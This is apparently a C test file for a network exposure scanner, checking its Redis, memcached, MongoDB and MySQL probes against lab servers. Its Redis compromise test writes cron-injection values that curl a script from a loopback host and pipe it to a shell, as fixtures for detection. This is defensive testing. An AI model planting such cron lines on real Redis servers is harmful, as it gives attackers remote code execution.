/*
 * test_rawapi_lab.c - the redis, memcached, mongodb and mysql checks
 * against the lab's raw-protocol servers (tests/lab/lab.d/rawapi.sh):
 * real redis-server, memcached and MariaDB from Debian, the MongoDB 7.0
 * replay server, and hostile servers on the same ports, through the whole
 * engine. EXPO_LAB_DIR names the running lab; `make check` always sets it.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <pthread.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <criterion/criterion.h>
#include "lab_util.h"
#include "check.h"
#include "config.h"
#include "engine/engine.h"
#include "finding.h"
#include "report/report.h"
#include "target.h"

extern const struct check check_redis;
extern const struct check check_memcached;
extern const struct check check_mongodb;
extern const struct check check_mysql;

static const struct check *raw_checks[] = {
	&check_redis,
	&check_memcached,
	&check_mongodb,
	&check_mysql,
};

#define NRAW (sizeof(raw_checks) / sizeof(raw_checks[0]))

/* a lab.env "ADDR:PORT" (or "ADDR") value cut to its address */
static void lab_addr(const char *key, char *buf, size_t size)
{
	lab_env(key, buf, size);
	buf[strcspn(buf, ":")] = '\0';
}

struct expect {
	const char *key;   /* lab.env */
	const char *rules; /* exact set */
	uint16_t port;
	const struct check *check;
	const char *evidence; /* a substring of the finding's evidence */
};

static const struct expect servers[] = {
	{ "EXPO_LAB_REDIS_OPEN", "redis.no_auth", 6379, &check_redis,
	  "Redis 7." },
	{ "EXPO_LAB_REDIS_AUTH", "", 6379, &check_redis, NULL },
	{ "EXPO_LAB_REDIS_SENTINEL", "redis.no_auth", 6379, &check_redis,
	  "Sentinel" },
	{ "EXPO_LAB_MEMCACHED", "memcached.no_auth", 11211, &check_memcached,
	  "memcached 1.6" },
	{ "EXPO_LAB_MONGODB_OPEN", "mongodb.no_auth", 27017, &check_mongodb,
	  "4 databases; wire version 21 (MongoDB 7.0)" },
	{ "EXPO_LAB_MONGODB_AUTH", "", 27017, &check_mongodb, NULL },
	{ "EXPO_LAB_MARIADB_WEAK", "mysql.default_credentials", 3306,
	  &check_mysql, "as root (no password" },
	{ "EXPO_LAB_MARIADB_STRONG", "", 3306, &check_mysql, NULL },
};

#define NSERVERS (sizeof(servers) / sizeof(servers[0]))

static const char *const hostile_keys[] = {
	"EXPO_LAB_RAWAPI_HOSTILE_SILENT",
	"EXPO_LAB_RAWAPI_HOSTILE_GARBAGE",
	"EXPO_LAB_RAWAPI_HOSTILE_RESET",
};

Test(rawapi_lab, whole_lab, .timeout = 120)
{
	char addrs[NSERVERS + 3][64], ids[1024];
	struct scan_config cfg;
	struct target_list l;
	struct scan_result res;
	double secs;
	size_t i, c;

	lab_scan_config(&cfg, raw_checks, NRAW, 20000);
	target_list_init(&l);
	for (i = 0; i < NSERVERS; i++) {
		lab_addr(servers[i].key, addrs[i], sizeof(addrs[i]));
		lab_add_target(&l, addrs[i]);
	}
	for (i = 0; i < 3; i++) {
		lab_addr(hostile_keys[i], addrs[NSERVERS + i],
			 sizeof(addrs[0]));
		lab_add_target(&l, addrs[NSERVERS + i]);
	}
	lab_scan(&cfg, &l, &res, &secs, 0);

	for (i = 0; i < NSERVERS; i++) {
		const struct expect *e = &servers[i];
		const char *why = NULL;
		int st;

		lab_rules_for(&res, addrs[i], ids, sizeof(ids));
		cr_expect_str_eq(ids, e->rules, "%s (%s): %s", e->key, addrs[i],
				 ids);
		if (e->evidence != NULL) {
			const struct finding *f =
				lab_finding_for(&res, addrs[i], e->rules);

			cr_expect(f != NULL && strstr(f->evidence,
						      e->evidence) != NULL,
				  "%s: evidence %s", e->key,
				  f ? f->evidence : "(none)");
			if (f != NULL)
				cr_expect_eq(f->confidence,
					     CONFIDENCE_CONFIRMED);
		}
		st = lab_check_status(&res, i, e->port, e->check, &why);
		cr_expect_eq(st, STATUS_OPEN, "%s: %s %s", e->key,
			     st >= 0 ? status_name(st) : "no record", why);
	}
	{
		const struct finding *f = lab_finding_for(
			&res, addrs[6], "mysql.default_credentials");

		cr_assert_not_null(f);
		cr_expect_str_eq(f->secret, "<redacted>");
	}
	/* hostile: every check on every port ends as timeout or error,
	 * with no finding */
	for (i = NSERVERS; i < NSERVERS + 3; i++) {
		lab_rules_for(&res, addrs[i], ids, sizeof(ids));
		cr_expect_str_eq(ids, "", "%s: %s", addrs[i], ids);
		for (c = 0; c < 4; c++) {
			const char *why = NULL;
			int st = lab_check_status(&res, i,
						  raw_checks[c]->ports[0],
						  raw_checks[c], &why);

			cr_expect(st == STATUS_TIMEOUT || st == STATUS_ERROR,
				  "%s:%u %s: %s %s", addrs[i],
				  raw_checks[c]->ports[0], raw_checks[c]->name,
				  st >= 0 ? status_name(st) : "no record", why);
		}
	}
	/* the silent servers cost one --timeout each, all in parallel */
	cr_expect_lt(secs, 2 * cfg.timeout_ms / 1000.0 + 5.0,
		     "the scan took %.1f s", secs);
	scan_result_release(&res);
	target_list_release(&l);
}

/* per hostile mode: the exact outcome, within the timeout + margin */
Test(rawapi_lab, hostile_timing, .timeout = 60)
{
	static const struct {
		const char *key;
		int status;
	} modes[] = {
		{ "EXPO_LAB_RAWAPI_HOSTILE_SILENT", STATUS_TIMEOUT },
		{ "EXPO_LAB_RAWAPI_HOSTILE_GARBAGE", STATUS_ERROR },
		{ "EXPO_LAB_RAWAPI_HOSTILE_RESET", STATUS_ERROR },
	};
	size_t m, c;

	for (m = 0; m < 3; m++) {
		struct scan_config cfg;
		struct target_list l;
		struct scan_result res;
		char addr[64];
		double secs;

		lab_scan_config(&cfg, raw_checks, NRAW, 20000);
		cfg.timeout_ms = 1000;
		lab_addr(modes[m].key, addr, sizeof(addr));
		target_list_init(&l);
		lab_add_target(&l, addr);
		lab_scan(&cfg, &l, &res, &secs, 0);
		for (c = 0; c < 4; c++) {
			const char *why = NULL;
			int st = lab_check_status(&res, 0,
						  raw_checks[c]->ports[0],
						  raw_checks[c], &why);

			cr_expect_eq(st, modes[m].status, "%s %s: %s %s",
				     modes[m].key, raw_checks[c]->name,
				     st >= 0 ? status_name(st) : "no record",
				     why);
		}
		cr_expect_lt(secs, cfg.timeout_ms / 1000.0 + 2.0, "%s: %.1f s",
			     modes[m].key, secs);
		scan_result_release(&res);
		target_list_release(&l);
	}
}

Test(rawapi_lab, mysql_no_login, .timeout = 60)
{
	struct scan_config cfg;
	struct target_list l;
	struct scan_result res;
	char addr[64], ids[256];
	double secs;

	lab_scan_config(&cfg, raw_checks, NRAW, 20000);
	cfg.no_login = true;
	lab_addr("EXPO_LAB_MARIADB_WEAK", addr, sizeof(addr));
	target_list_init(&l);
	lab_add_target(&l, addr);
	lab_scan(&cfg, &l, &res, &secs, 0);
	lab_rules_for(&res, addr, ids, sizeof(ids));
	cr_expect_str_eq(ids, "", "--no-login logged in: %s", ids);
	scan_result_release(&res);
	target_list_release(&l);
}

/* the strong MariaDB's Access_denied_errors, over its socket as root */
static long denied_count(void)
{
	char sock[1024], pwfile[1024], cmd[3072], line[256];
	long n = -1;
	FILE *p;

	lab_env("EXPO_LAB_MARIADB_STRONG_SOCKET", sock, sizeof(sock));
	lab_env("EXPO_LAB_MARIADB_STRONG_PWFILE", pwfile, sizeof(pwfile));
	snprintf(cmd, sizeof(cmd),
		 "mariadb --no-defaults --socket='%s' "
		 "-uroot -p\"$(cat '%s')\" -N -e \"SHOW GLOBAL STATUS LIKE "
		 "'Access_denied_errors'\" 2>&1",
		 sock, pwfile);
	p = popen(cmd, "r");
	cr_assert_not_null(p);
	if (fgets(line, sizeof(line), p) != NULL &&
	    strncmp(line, "Access_denied_errors\t", 21) == 0)
		n = strtol(line + 21, NULL, 10);
	pclose(p);
	cr_assert_geq(n, 0, "cannot read Access_denied_errors: %s", line);
	return n;
}

/* --max-attempts bounds the logins: the canary plus two pairs */
Test(rawapi_lab, mysql_max_attempts, .timeout = 60)
{
	struct scan_config cfg;
	struct target_list l;
	struct scan_result res;
	char addr[64], ids[256];
	long before, after;
	double secs;

	lab_scan_config(&cfg, raw_checks, NRAW, 20000);
	cfg.max_attempts = 2;
	lab_addr("EXPO_LAB_MARIADB_STRONG", addr, sizeof(addr));
	target_list_init(&l);
	lab_add_target(&l, addr);
	before = denied_count();
	lab_scan(&cfg, &l, &res, &secs, 0);
	after = denied_count();
	cr_expect_eq(after - before, 3, "%ld failed logins", after - before);
	lab_rules_for(&res, addr, ids, sizeof(ids));
	cr_expect_str_eq(ids, "", "strong: %s", ids);
	scan_result_release(&res);
	target_list_release(&l);
}

/*
 * Protected mode cannot be met from loopback (it only refuses other
 * sources), so this test serves Redis 7's -DENIED greeting itself, the
 * way redis-server sends it: at accept, then close (networking.c).
 */
#define DENIED_ADDR "127.0.31.20"
static const char denied_text[] =
	"-DENIED Redis is running in protected mode because protected mode "
	"is enabled and no password is set for the default user. In this "
	"mode connections are only accepted from the loopback interface. If "
	"you want to connect from external computers to Redis you may adopt "
	"one of the following solutions: 1) Just disable protected mode "
	"sending the command 'CONFIG SET protected-mode no' from the loopback "
	"interface by connecting to Redis from the same host the server is "
	"running, however MAKE SURE Redis is not publicly accessible from "
	"internet if you do so. Use CONFIG REWRITE to make this change "
	"permanent.\r\n";

/* serves every connection (the engine's port discovery connects too)
 * until the listener is shut down */
static void *denied_server(void *arg)
{
	int lfd = *(int *)arg, cfd, n;

	for (n = 0; n < 16 && (cfd = accept(lfd, NULL, NULL)) >= 0; n++) {
		/* port discovery hangs up at once: its send may fail */
		(void)send(cfd, denied_text, sizeof(denied_text) - 1,
			   MSG_NOSIGNAL);
		close(cfd);
	}
	return NULL;
}

Test(rawapi_lab, redis_protected_mode, .timeout = 30)
{
	struct sockaddr_in sa;
	struct scan_config cfg;
	struct target_list l;
	struct scan_result res;
	const char *why = NULL;
	char ids[256];
	pthread_t th;
	double secs;
	int lfd, one = 1, st;

	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(6379);
	cr_assert_eq(inet_pton(AF_INET, DENIED_ADDR, &sa.sin_addr), 1);
	lfd = socket(AF_INET, SOCK_STREAM, 0);
	cr_assert_geq(lfd, 0);
	setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	cr_assert_eq(bind(lfd, (struct sockaddr *)&sa, sizeof(sa)), 0,
		     "bind %s:6379", DENIED_ADDR);
	cr_assert_eq(listen(lfd, 8), 0);
	cr_assert_eq(pthread_create(&th, NULL, denied_server, &lfd), 0);

	scan_config_defaults(&cfg);
	cfg.checks = raw_checks;
	cfg.nchecks = 1;
	cfg.timeout_ms = 2000;
	target_list_init(&l);
	lab_add_target(&l, DENIED_ADDR);
	lab_scan(&cfg, &l, &res, &secs, 0);
	shutdown(lfd, SHUT_RDWR); /* ends the accept() */
	pthread_join(th, NULL);
	close(lfd);
	lab_rules_for(&res, DENIED_ADDR, ids, sizeof(ids));
	cr_expect_str_eq(ids, "", "protected mode reported as: %s", ids);
	st = lab_check_status(&res, 0, 6379, &check_redis, &why);
	cr_expect_eq(st, STATUS_OPEN, "%s %s",
		     st >= 0 ? status_name(st) : "no record", why);
	cr_expect(why != NULL && strstr(why, "protected mode") != NULL,
		  "reason: %s", why ? why : "(none)");
	scan_result_release(&res);
	target_list_release(&l);
}

/* ---- redis.compromise_indicator against the lab's open redis-server ---- */

/* sends one command (RESP array of args) to addr:6379 and reads the
 * start of its reply into out; false if nothing came back */
static bool redis_cmd(const char *addr, const char *const *argv, size_t argc,
		      char *out, size_t size)
{
	struct sockaddr_in sa = { .sin_family = AF_INET,
				  .sin_port = htons(6379) };
	struct timeval tv = { 5, 0 };
	char buf[8192];
	size_t i, len = 0;
	ssize_t n;
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	bool ok = false;

	cr_assert_geq(fd, 0);
	cr_assert_eq(inet_pton(AF_INET, addr, &sa.sin_addr), 1);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0)
		goto out;
	len = (size_t)snprintf(buf, sizeof(buf), "*%zu\r\n", argc);
	for (i = 0; i < argc && len < sizeof(buf); i++)
		len += (size_t)snprintf(buf + len, sizeof(buf) - len,
					"$%zu\r\n%s\r\n", strlen(argv[i]),
					argv[i]);
	cr_assert_lt(len, sizeof(buf));
	if (send(fd, buf, len, MSG_NOSIGNAL) != (ssize_t)len)
		goto out;
	n = recv(fd, out, size - 1, 0);
	if (n > 0) {
		out[n] = '\0';
		ok = true;
	}
out:
	close(fd);
	return ok;
}

static void redis_set(const char *addr, const char *key, const char *val)
{
	const char *argv[] = { "SET", key, val };
	char r[256];

	cr_assert(redis_cmd(addr, argv, 3, r, sizeof(r)), "SET %s", key);
	cr_assert_str_eq(r, "+OK\r\n", "SET %s: %s", key, r);
}

static void redis_forget(const char *addr)
{
	const char *argv[] = { "DEL", "backup1", "backup2", "expo-lab-notes" };
	char r[256];

	(void)redis_cmd(addr, argv, 4, r, sizeof(r));
}

static void redis_scan(const char *addr, char *ids, size_t isize, char *ev,
		       size_t esize)
{
	struct scan_config cfg;
	struct target_list l;
	struct scan_result res;
	const struct finding *f;
	const char *why;
	double secs;

	lab_scan_config(&cfg, raw_checks, NRAW, 20000);
	target_list_init(&l);
	lab_add_target(&l, addr);
	lab_scan(&cfg, &l, &res, &secs, 0);
	lab_rules_for(&res, addr, ids, isize);
	f = lab_finding_for(&res, addr, "redis.compromise_indicator");
	snprintf(ev, esize, "%s", f != NULL ? f->evidence : "");
	if (f != NULL)
		cr_expect_eq(f->severity, SEV_CRITICAL);
	cr_expect_eq(lab_check_status(&res, 0, 6379, &check_redis, &why),
		     STATUS_OPEN, "redis: %s", why);
	scan_result_release(&res);
	target_list_release(&l);
}

/* keys written by the test: a clean twin (no such key) and a decoy (the
 * payload under a name no campaign uses, a listed name holding harmless
 * words) report the open door only; a cron-injection key is a sign */
Test(rawapi_lab, redis_compromise_indicator, .timeout = 60)
{
	char addr[64], ids[256], ev[2048];

	lab_addr("EXPO_LAB_REDIS_OPEN", addr, sizeof(addr));
	redis_forget(addr);
	redis_scan(addr, ids, sizeof(ids), ev, sizeof(ev));
	cr_expect_str_eq(ids, "redis.no_auth", "clean twin: {%s} %s", ids, ev);

	redis_set(
		addr, "expo-lab-notes",
		"\n\n*/2 * * * * root curl -fsSL http://127.0.0.1/x | sh\n\n");
	redis_set(addr, "backup2", "nightly backup; xmrig is blocked here");
	redis_scan(addr, ids, sizeof(ids), ev, sizeof(ev));
	cr_expect_str_eq(ids, "redis.no_auth", "decoy: {%s} %s", ids, ev);

	redis_set(addr, "backup1",
		  "\n\n*/2 * * * * root curl -fsSL http://127.0.0.1/b.sh | "
		  "sh\n\n");
	redis_scan(addr, ids, sizeof(ids), ev, sizeof(ev));
	cr_expect_str_eq(ids, "redis.compromise_indicator,redis.no_auth",
			 "injected: {%s}", ids);
	cr_expect(strstr(ev, "1 sign of compromise: cron line that fetches "
			     "and pipes to a shell") &&
			  strstr(ev, "in the value of key backup1") &&
			  strstr(ev, "expo-lab-notes") == NULL,
		  "%s", ev);
	redis_forget(addr);
}
